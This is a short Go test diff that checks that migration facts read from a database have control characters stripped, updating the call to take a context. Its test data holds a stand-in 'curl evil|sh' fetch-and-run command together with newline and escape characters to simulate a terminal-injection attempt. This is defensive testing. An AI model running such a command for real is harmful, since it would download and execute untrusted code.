@@ -92,8 +92,8 @@ func TestFactsHoldNoControlCharacters(t *testing.T) {
 	_, err := db.Exec("INSERT INTO bun_migrations (id, name) VALUES (999999, 'x' || char(10) || 'curl evil|sh' " +
 		"|| char(27))")
 	testkit.OK(t, err)
-	if got := begin(t, open(t, dir)).Facts().Migration; got != "xcurl evil|sh" {
-		t.Errorf("%q", got)
+	if facts, _ := begin(t, open(t, dir)).Facts(t.Context()); facts.Migration != "xcurl evil|sh" {
+		t.Errorf("%q", facts.Migration)
 	}
 }
 
